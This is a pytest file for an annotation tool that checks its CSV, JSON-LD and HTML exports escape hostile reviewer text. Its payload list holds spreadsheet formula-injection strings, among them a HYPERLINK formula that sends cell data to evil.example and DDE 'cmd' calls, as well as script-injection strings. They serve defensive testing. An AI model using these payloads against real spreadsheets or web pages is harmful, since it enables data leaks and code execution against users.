"""Exports carry hostile reviewer and article text safely: no CSV cell a spreadsheet would run as a formula,
JSON-LD that can be pasted into a <script type="application/ld+json"> block without closing it, an HTML
report with everything escaped. Each format is produced by `annotate export` (a subprocess), and the hostile
text must survive as data (parsed back, it is all still there)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from annotate.schemas import AnnotationForm, ClaimForm, SourceForm
from annotate.services import SYSTEM, Desk, annotations, claims, documents, reviewers

ROOT = Path(__file__).resolve().parent.parent

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2 tab first",
    "\r=1+2 carriage return first",
    "   =1+2 spaces first",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><img src=x onerror=alert(2)>",
    "<!--<script>alert(3)//-->",
]
ARTICLE = (
    "Hostile export test: the minister said exports rose sharply\n\n"
    '=HYPERLINK("http://evil.example","the minister said") exports rose by 12 percent in the third quarter. '
    "The ministry wrote </script><script>alert(1)</script> in a statement published on Wednesday morning. "
    "Officials at the ministry confirmed the figures in a statement published on Wednesday evening.\n"
)
FORMULA = ("=", "+", "-", "@")
SCRIPT_CLOSE = re.compile(r"(?i)</script|<!--")


def cli(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "PYTHONPATH": str(ROOT)}
    env.pop("ANNOTATE_DB_URL", None)
    return subprocess.run(
        [sys.executable, "-m", "annotate", *args], capture_output=True, text=True, env=env, cwd=ROOT, timeout=timeout
    )


def has_format(fmt: str) -> bool:
    try:
        from annotate import cli as cli_package
        from annotate.exports import FORMATS
    except ImportError:
        return False
    return "export" in cli_package.COMMANDS and fmt in FORMATS


def export(url: str, tmp_path: Path, fmt: str, *extra: str) -> str:
    if not has_format(fmt):
        pytest.skip(f"`annotate export --format {fmt}` does not exist yet")
    out = tmp_path / f"export.{fmt}"
    result = cli("--db", url, "export", "--format", fmt, "--out", str(out), *extra)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return out.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_desk(tmp_path_factory) -> str:
    """A SQLite desk whose reviewers wrote every payload into every free-text field they have."""
    url = f"sqlite:///{tmp_path_factory.mktemp('export-safety') / 'desk.db'}"
    desk = Desk.open(url)
    from annotate.services import scale

    scale.ensure_default(desk, SYSTEM)
    ana = reviewers.actor_for(reviewers.create(desk, SYSTEM, "ana", None, role="reviewer"))
    ed = reviewers.actor_for(reviewers.create(desk, SYSTEM, "ed", None, role="editor"))
    doc = documents.ingest(desk, SYSTEM, ARTICLE, name="hostile.txt", url="https://example.org/a?x=</script>")
    text = documents.get(desk, doc.document_id).text
    found = claims.for_document(desk, doc.document_id)
    for i, payload in enumerate(PAYLOADS):
        start = text.index("exports")
        claim = claims.create(desk, ed, doc.document_id, ClaimForm(start=start, end=start + 20 + i, speaker=payload))
        annotations.add(desk, ana, claim.id, AnnotationForm(type="comment", note=payload))
        annotations.add(desk, ana, claim.id, AnnotationForm(type="context", note=payload))
        annotations.add(desk, ana, claim.id, AnnotationForm(type="tag", tag=payload.strip()[:100]))
        annotations.add(
            desk,
            ana,
            claim.id,
            AnnotationForm(
                type="provenance",
                relation="quoted_from",
                excerpt=payload,
                new_source=SourceForm(title=payload.strip(), publisher=payload.strip(), excerpt=payload),
            ),
        )
        annotations.add(desk, ana, claim.id, AnnotationForm(type="verdict", verdict="False", note=payload))
        claims.set_status(desk, ed, claim.id, "approved", expected_version=claims.get(desk, claim.id).version)
    for claim in found:  # the extracted claims (article text that starts with =HYPERLINK) get verdicts too
        annotations.add(desk, ana, claim.id, AnnotationForm(type="verdict", verdict="Misleading", note=PAYLOADS[0]))
    desk.dispose()
    return url


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _check_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell and (cell[0] in "\t\r" or cell.lstrip().startswith(FORMULA)) and not _number(cell)
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_cells_never_start_a_formula(hostile_desk, tmp_path):
    body = export(hostile_desk, tmp_path, "csv")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) > len(PAYLOADS)
    dangerous = _check_cells(rows)
    assert not dangerous, dangerous[:5]
    flat = "\n".join(cell for row in rows for cell in row)
    # Neutralised, not dropped: the text is all still there behind the apostrophe.
    for payload in PAYLOADS:
        assert payload.strip() in flat, payload


def test_csv_split_files_never_start_a_formula(hostile_desk, tmp_path):
    if not has_format("csv"):
        pytest.skip("`annotate export --format csv` does not exist yet")
    split = tmp_path / "split"
    result = cli("--db", hostile_desk, "export", "--format", "csv", "--split", str(split))
    if result.returncode != 0 and "split" in result.stderr and "unrecognized" in result.stderr:
        pytest.skip("export has no --split")
    assert result.returncode == 0, result.stderr
    files = sorted(split.glob("*.csv"))
    assert files
    for path in files:
        rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
        assert not _check_cells(rows), (path.name, _check_cells(rows)[:5])


@pytest.mark.parametrize("fmt", ["claimreview", "webannotation"])
def test_json_ld_is_safe_to_embed_in_a_script_tag(hostile_desk, tmp_path, fmt):
    body = export(hostile_desk, tmp_path, fmt)
    assert not SCRIPT_CLOSE.search(body), SCRIPT_CLOSE.search(body).group()


@pytest.mark.parametrize("fmt", ["claimreview", "webannotation", "json"])
def test_json_exports_keep_hostile_text_as_data(hostile_desk, tmp_path, fmt):
    body = export(hostile_desk, tmp_path, fmt)
    data = json.loads(body)
    strings = "\n".join(_strings(data))
    assert "</script><script>alert(1)</script>" in strings
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")' in strings
    if fmt == "claimreview":
        assert len(data) >= len(PAYLOADS)
        assert all(item["@type"] == "ClaimReview" for item in data)


def test_html_report_escapes_everything(hostile_desk, tmp_path):
    body = export(hostile_desk, tmp_path, "html")
    head, _, rest = body.partition("</head>")
    # Tags in the body are the report's own; none is a script-capable one, none carries an event handler.
    assert not re.search(r"(?i)<\s*(?:script|img|iframe|svg|object|embed)\b|<[a-z][^>]*\bon[a-z]+\s*=", rest)
    assert "javascript:" not in body.lower()
    assert "&lt;/script&gt;" in rest
